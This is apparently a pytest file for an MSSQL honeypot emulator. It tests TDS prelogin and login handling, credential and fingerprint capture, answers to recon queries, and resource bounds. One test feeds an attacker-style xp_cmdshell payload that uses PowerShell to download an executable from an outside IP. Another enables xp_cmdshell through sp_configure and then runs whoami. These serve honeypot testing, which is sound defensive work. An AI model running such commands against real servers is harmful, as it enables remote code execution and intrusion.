"""MSSQL machine fed bytes: PRELOGIN, LOGIN7, batches, bounds."""

from __future__ import annotations

import struct
from pathlib import Path

from muscipula import config as C
from muscipula import services
from muscipula.machine import Close, Emit, Peer, Send
from muscipula.protocols.mssql import batch, login7, prelogin
from muscipula.protocols.mssql import login as L
from muscipula.protocols.mssql import tds as T

PEER = Peer("127.0.0.1", 1433, "10.1.2.3", 40000)


def make(tmp_path: Path, preset: str = "windows-2008r2", **svc):
    cfg = C.load(extra={"persona": {"preset": preset}, "services": {"mssql": svc}})
    ctx = services.context("mssql", cfg, tmp_path)
    return services.get("mssql").build(ctx), ctx


def replies(actions) -> list[tuple[int, int, bytes]]:
    """(type, packet id, payload) of each packet sent."""
    data = b"".join(a.data for a in actions if isinstance(a, Send))
    out = []
    while data:
        kind, _status, length, _spid, pid, _w = struct.unpack_from(">BBHHBB", data)
        out.append((kind, pid, data[8:length]))
        data = data[length:]
    return out


def emits(actions, name):
    return [a.fields for a in actions if isinstance(a, Emit) and a.name == name]


def text(actions) -> bytes:
    return b"".join(p for _k, _i, p in replies(actions))


def send(m, kind, payload, size=4096):
    return m.receive(T.packets(kind, payload, size), 0.0)


def logged_in(factory, user="sa", password="pw", tds=b"\x04\x00\x00\x74"):
    m = factory(PEER)
    send(m, T.PRELOGIN, prelogin())
    return m, send(m, T.LOGIN7, login7(user, password, tds=tds))


def ack_version(body: bytes) -> bytes:
    """LOGINACK's TDS version: the 4 bytes before its program name."""
    at = body.index(T.b_varchar("Microsoft SQL Server"))
    assert body[at - 8] == 0xAD
    return body[at - 4:at]


def test_prelogin_answers_the_options_asked_with_the_persona_version(tmp_path):
    factory, _ = make(tmp_path)
    m = factory(PEER)
    (kind, pid, body), = replies(send(m, T.PRELOGIN, prelogin(4, 0)))
    assert (kind, pid) == (T.REPLY, 1)
    opts = L.parse_prelogin(body)
    assert [o for o, _ in opts] == [0, 1, 2, 3]
    assert dict(opts)[0] == bytes([10, 50]) + struct.pack(">HH", 6000, 0)
    assert dict(opts)[1] == b"\x00" and dict(opts)[3] == b""  # ENCRYPT_OFF: login in TLS
    assert len(body) + 8 == 0x25  # what nmap's ms-sql-s match expects of a 4-option reply
    (_k, _i, body5), = replies(send(factory(PEER), T.PRELOGIN, prelogin(5)))
    assert [o for o, _ in L.parse_prelogin(body5)] == [0, 1, 2, 3, 4]


def test_prelogin_requiring_encryption_without_tls_is_recorded(tmp_path):
    factory, _ = make(tmp_path, encryption="none")
    acts = send(factory(PEER), T.PRELOGIN, prelogin(5, L.ENCRYPT_REQ))
    assert "encryption" in emits(acts, "protocol.error")[0]["detail"]
    assert dict(L.parse_prelogin(replies(acts)[0][2]))[1] == b"\x02"


def test_login_success_records_password_and_fingerprint(tmp_path):
    factory, _ctx = make(tmp_path)
    _m, acts = logged_in(factory, "sa", "S3cret!")
    (login,) = emits(acts, "login")
    assert login["username"] == "sa" and login["password"] == "S3cret!" and login["success"]
    (fp,) = emits(acts, "mssql.fingerprint")
    assert fp["hostname"] == "WS01" and fp["appname"] == "sqlcmd" and fp["cltintname"] == "ODBC"
    body = text(acts)
    # ENVCHANGE db, INFO 5701, collation, language, INFO 5703, LOGINACK (TDS 7.3B for 2008 R2)
    assert body[0] == 0xE3
    assert ack_version(body) == b"\x73\x0b\x00\x03"
    assert "Microsoft SQL Server".encode("utf-16-le") in body
    assert body.endswith(T.done(0, 0, 0, 0x74))


def test_login_failure_is_18456_with_server_name(tmp_path):
    factory, ctx = make(tmp_path, login={"mode": "list", "users": {"sa": "right"}})
    _m, acts = logged_in(factory, "sa", "wrong")
    body = text(acts)
    assert body[0] == 0xAA
    number, state, cls = struct.unpack_from("<iBB", body, 3)
    assert (number, state, cls) == (18456, 1, 14)
    assert "Login failed for user 'sa'.".encode("utf-16-le") in body
    assert ctx.persona.hostname.upper().encode("utf-16-le") in body
    assert isinstance(acts[-1], Close)
    assert emits(acts, "login")[0]["success"] is False


def test_tds71_done_counts_are_four_bytes(tmp_path):
    factory, _ = make(tmp_path)
    m, acts = logged_in(factory, tds=b"\x00\x00\x00\x71")
    body = text(acts)
    assert ack_version(body) == b"\x71\x00\x00\x01"
    out = text(send(m, T.SQL_BATCH, batch("SELECT 1", headers=False)))
    assert out.endswith(b"\xfd\x10\x00\xc1\x00\x01\x00\x00\x00")


def test_version_and_recon(tmp_path):
    factory, _ctx = make(tmp_path)
    m, _ = logged_in(factory)
    acts = send(m, T.SQL_BATCH, batch("SELECT @@VERSION"))
    assert emits(acts, "mssql.command") == [{"status": "complete", "cmd": "SELECT @@VERSION"}]
    out = text(acts)
    assert out[0] == 0x81 and b"\xd1" in out
    assert "10.50.6000.34 (X64)".encode("utf-16-le") in out
    out = text(send(m, T.SQL_BATCH, batch(
        "SELECT SYSTEM_USER, IS_SRVROLEMEMBER('sysadmin'), SERVERPROPERTY('ProductLevel')")))
    assert "SP3".encode("utf-16-le") in out and "sa".encode("utf-16-le") in out
    out = text(send(m, T.SQL_BATCH, batch("SELECT name FROM sys.databases")))
    assert "msdb".encode("utf-16-le") in out and out.endswith(
        T.done(T.DONE_COUNT, 4, 0xC1, 0x74))


def test_catalog_queries_scanners_send(tmp_path):
    """master..x (an empty schema part) and the old and new catalogue views answer."""
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    for query, expect, count in (
            ("SELECT name FROM master..sysdatabases", "tempdb", 4),
            ("select loginname from master..syslogins where sysadmin = 1", "sa", 1),
            ("select name from master..sysobjects where xtype = 'U'", "spt_monitor", 5),
            ("select * from master..sysobjects where name = 'xp_cmdshell'", "xp_cmdshell", 1),
            ("select name from sys.tables", "MSreplication_options", 5),
            ("SELECT name FROM master.dbo.sysusers WHERE issqlrole = 0", "guest", 4),
            ("select table_name from information_schema.tables where table_type = 'VIEW'",
             "spt_values", 1)):
        out = text(send(m, T.SQL_BATCH, batch(query)))
        assert _error_numbers(out) == [], query
        assert expect.encode("utf-16-le") in out, query
        assert out.endswith(T.done(T.DONE_COUNT, count, 0xC1, 0x74)), query


def test_tables_errors_and_types(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    out = text(send(m, T.SQL_BATCH, batch(
        "create table t (a int, b nvarchar(20))\ninsert into t values (1, N'x'), (2, NULL)\n"
        "select a, b from t")))
    assert b"\x26\x04" in out and b"\xe7\x40\x1f" in out  # INTN(4), NVARCHAR(8000 bytes)
    assert b"\xaa" not in out[:1]
    out = text(send(m, T.SQL_BATCH, batch("select * from nosuch")))
    assert out[0] == 0xAA and struct.unpack_from("<i", out, 3)[0] == 208
    out = text(send(m, T.SQL_BATCH, batch("selec 1 fro")))
    assert out[0] == 0xAA and struct.unpack_from("<i", out, 3)[0] == 102


def test_xp_cmdshell_off_until_configured_and_urls_offered(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    acts = send(m, T.SQL_BATCH, batch(
        "exec xp_cmdshell 'powershell (new-object net.webclient).downloadfile("
        "''http://198.51.100.7/a.exe'',''c:\\a.exe'')'"))
    out = text(acts)
    assert struct.unpack_from("<i", out, 3)[0] == 15281
    assert emits(acts, "download.offer")[0]["url"] == "http://198.51.100.7/a.exe"
    send(m, T.SQL_BATCH, batch("exec sp_configure 'show advanced options',1;RECONFIGURE;"
                               "exec sp_configure 'xp_cmdshell',1;RECONFIGURE;"))
    out = text(send(m, T.SQL_BATCH, batch("exec master..xp_cmdshell 'whoami'")))
    assert "nt service\\mssqlserver".encode("utf-16-le") in out


def test_sspi_login_gets_ntlm_challenge_naming_host(tmp_path):
    factory, ctx = make(tmp_path)
    m = factory(PEER)
    acts = send(m, T.LOGIN7, login7("", "", sspi=b"NTLMSSP\0\x01\0\0\0" + b"\0" * 24))
    out = text(acts)
    assert out[0] == 0xED and b"NTLMSSP\0\x02\0\0\0" in out
    assert ctx.persona.netbios_name.encode("utf-16-le") in out


def test_bounds_max_packet_and_max_message(tmp_path):
    factory, _ = make(tmp_path, max_packet=1024, max_message=2048)
    m = factory(PEER)
    acts = m.receive(T.header(T.SQL_BATCH, 2000), 0.0)
    assert emits(acts, "connection.limit")[0]["limit"] == "max_packet"
    assert isinstance(acts[-1], Close)
    m, _ = logged_in(factory)
    acts = m.receive(T.packets(T.SQL_BATCH, b"x" * 3000, 1000), 0.0)
    assert emits(acts, "connection.limit")[0]["limit"] == "max_message"
    m2 = factory(PEER)
    m2.receive(T.packets(T.SQL_BATCH, b"x" * 1500, 1000)[:900], 0.0)
    assert 0 < m2.buffered() <= 1024 + 2048


def test_debian_persona_speaks_2019(tmp_path):
    factory, _ = make(tmp_path, preset="debian-12")
    m, acts = logged_in(factory)
    body = text(acts)
    assert ack_version(body) == b"\x74\x00\x00\x04"
    out = text(send(m, T.SQL_BATCH, batch("SELECT @@VERSION")))
    assert "15.0.4385.2".encode("utf-16-le") in out and "Linux".encode("utf-16-le") in out


def _error_numbers(body: bytes) -> list[int]:
    """Numbers of the ERROR tokens (0xAA) in a reply."""
    out, at = [], body.find(b"\xaa")
    while at >= 0:
        out.append(struct.unpack_from("<I", body, at + 3)[0])
        at = body.find(b"\xaa", at + 1)
    return out


def test_deep_nesting_gets_191_and_the_batch_is_recorded(tmp_path):
    factory, _ = make(tmp_path)
    m, _ = logged_in(factory)
    for sql in ("SELECT " + "(" * 3000 + "1" + ")" * 3000,
                "exec x (" + " reconfigure" * 3000):
        acts = send(m, T.SQL_BATCH, batch(sql), 32767)
        assert emits(acts, "mssql.command")[0]["cmd"] == sql
        assert 191 in _error_numbers(text(acts))
    assert not any(isinstance(a, Close) for a in acts)  # the session goes on


def test_batch_statement_and_result_bounds(tmp_path):
    import time

    factory, _ = make(tmp_path, max_batch_statements=50, max_result_bytes=100_000,
                      max_statement_chars=1000)
    m, _ = logged_in(factory)
    t = time.perf_counter()
    acts = send(m, T.SQL_BATCH, batch("SELECT 1;" * 20_000), 32767)
    assert time.perf_counter() - t < 2.0
    assert _error_numbers(text(acts)) == [8623]  # statement 51 stands for all the rest
    acts = send(m, T.SQL_BATCH, batch("SELECT 1 WHERE 'a' = '" + "a" * 2000 + "'"), 32767)
    assert _error_numbers(text(acts)) == [8623]
    big = ("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 5000) "
           "SELECT printf('%.4000c', 'a') FROM c")
    acts = send(m, T.SQL_BATCH, batch(big), 32767)
    assert 100_000 <= len(text(acts)) < 200_000


def test_ipconfig_addresses_are_per_install():
    from muscipula.capture.cmdexe import addresses

    a, b = addresses("WIN-AAAAAAAAAAA"), addresses("WIN-BBBBBBBBBBB")
    assert a == addresses("WIN-AAAAAAAAAAA") and a != b
    ipv4, gateway, link = a
    assert ipv4.startswith("10.") and gateway.rsplit(".", 1)[0] == ipv4.rsplit(".", 1)[0]
    assert link.startswith("fe80::") and "10.0.0.14" not in a
